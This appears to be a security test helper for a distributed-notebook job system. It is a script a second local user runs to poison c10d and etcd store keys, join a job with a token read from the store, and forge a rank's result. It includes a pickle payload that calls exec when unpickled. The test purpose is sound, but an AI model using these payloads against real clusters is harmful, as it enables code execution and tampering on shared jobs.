"""Another local user's attacks on a job, with only what any local user can see: the store's
address and the run id (``ps``, ``squeue``'s job names, the names under /tmp).

Run as a second Unix user (tests/conftest.py's ``attacker`` makes one) with
``/usr/bin/python3 attack.py COMMAND ...``: it needs nothing but the standard
library (that user cannot read the project's interpreter under /root), so it
speaks the stores' and the Job's wire protocols itself:

- ``store-set HOST:PORT KEY FILE``: a c10d store's key set to FILE's bytes, as
  torch's TCPStore client does (validate, ping, set);
- ``etcd-put HOST:PORT KEY FILE``: an etcd key put through etcd's v3 JSON gateway;
- ``join HOST:PORT RUN_ID FILE``: the job's descriptor read from its c10d store,
  a join with the store's token alone; if admitted, a ``succeeded`` report
  for rank 0 (which this node does not hold) in a higher round, carrying
  FILE's bytes as rank 0's value. Prints the Job's answer as ``ANSWER {...}``.

The notebook side builds the payloads: ``pwn`` (a pickle that creates a marker
file when it is unpickled) and ``forged`` (a join descriptor around it,
signed with a key of the attacker's own).
"""

from __future__ import annotations

import base64
import json
import socket
import struct
import sys
import urllib.request

VALIDATE, SET, GET, PING = 0, 1, 3, 13
MAGIC = 0x3C85F7CE


class Pwn:
    """Unpickling this creates ``marker``: what no process of a job must ever do."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return exec, (f"open({self.marker!r}, 'w').write('ran code the job did not send')",)


def pwn(marker: str) -> bytes:
    import pickle

    return pickle.dumps(Pwn(marker))


def forged(endpoint: str, marker: str) -> str:
    from elastic_nb.kernel.planning import make_plan
    from elastic_nb.wire import auth
    from elastic_nb.wire.join import JoinDescriptor

    options = make_plan(print, (), {}, {}).options  # a job's options, as the real one has
    return JoinDescriptor(pwn(marker), endpoint, "token", options).to_json(auth.new_key())


def _store(endpoint: str) -> socket.socket:
    host, port = endpoint.rsplit(":", 1)
    store = socket.create_connection((host, int(port)), timeout=10)
    store.sendall(struct.pack("<BI", VALIDATE, MAGIC) + struct.pack("<BI", PING, 7))
    assert _exactly(store, 4) == struct.pack("<I", 7), "not a c10d store"
    return store


def _exactly(sock: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = sock.recv(size - len(data))
        assert chunk, "the peer closed"
        data += chunk
    return data


def store_set(endpoint: str, key: str, path: str) -> None:
    with open(path, "rb") as source:
        value = source.read()
    with _store(endpoint) as store:
        name = key.encode()
        store.sendall(struct.pack("<BQ", SET, len(name)) + name + struct.pack("<Q", len(value))
                      + value)
        store.sendall(struct.pack("<BI", PING, 8))  # answered once the set was done
        assert _exactly(store, 4) == struct.pack("<I", 8)
    print("set", flush=True)


def store_get(endpoint: str, key: str) -> bytes:
    with _store(endpoint) as store:
        name = key.encode()
        store.sendall(struct.pack("<BQ", GET, len(name)) + name)
        (size,) = struct.unpack("<Q", _exactly(store, 8))
        return _exactly(store, size)


def etcd_put(endpoint: str, key: str, path: str) -> None:
    with open(path, "rb") as source:
        value = source.read()
    body = json.dumps({"key": base64.b64encode(key.encode()).decode(),
                       "value": base64.b64encode(value).decode()}).encode()
    request = urllib.request.Request(f"http://{endpoint}/v3/kv/put", data=body,
                                     headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=10) as answer:
        assert answer.status == 200, answer.read()
    print("put", flush=True)


def join(endpoint: str, run_id: str, path: str) -> None:
    descriptor = json.loads(store_get(endpoint, f"/elastic_nb/{run_id}/job"))
    host, port = descriptor["job_address"].rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=20) as job, \
            job.makefile("rwb") as wire:
        wire.readline()  # the Job's challenge: only a key holder can answer it
        send(wire, {"kind": "join", "token": descriptor["token"], "nproc": 1, "role": "mallory",
                    "host": "mallory"})
        answer = json.loads(wire.readline())
        print("ANSWER " + json.dumps(answer), flush=True)
        if answer.get("kind") != "accepted":
            return
        with open(path, "rb") as source:
            value = base64.b64encode(source.read()).decode()
        send(wire, {"kind": "succeeded", "restart_count": 0, "round": 10**6,
                    "return_values": {"0": value}})
        print("SENT", flush=True)
        sys.stdin.read()  # the channel stays open until the test is done with it


def send(wire, message: dict) -> None:
    wire.write(json.dumps(message).encode() + b"\n")
    wire.flush()


if __name__ == "__main__":
    commands = {"store-set": store_set, "etcd-put": etcd_put, "join": join}
    commands[sys.argv[1]](*sys.argv[2:])
